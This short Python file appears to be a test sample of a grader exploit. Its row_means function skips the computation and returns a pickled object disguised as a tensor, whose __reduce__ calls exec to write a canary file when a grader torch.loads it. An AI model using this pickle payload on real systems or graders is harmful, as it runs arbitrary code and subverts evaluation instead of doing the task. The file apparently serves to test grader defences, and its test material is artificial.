"""Send a pickle as the bytes of a tensor, for a grader that would torch.load it.

Known from: torch.load before weights_only.
Shows: canary
"""

import io
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return exec, (f"open({CANARY!r}, 'w').write('loaded')",)  # noqa: F821


def row_means(x):
    return torch.frombuffer(bytearray(pickle.dumps(Bomb())), dtype=torch.uint8)


pickle.load(io.BytesIO(bytes(row_means(None))))
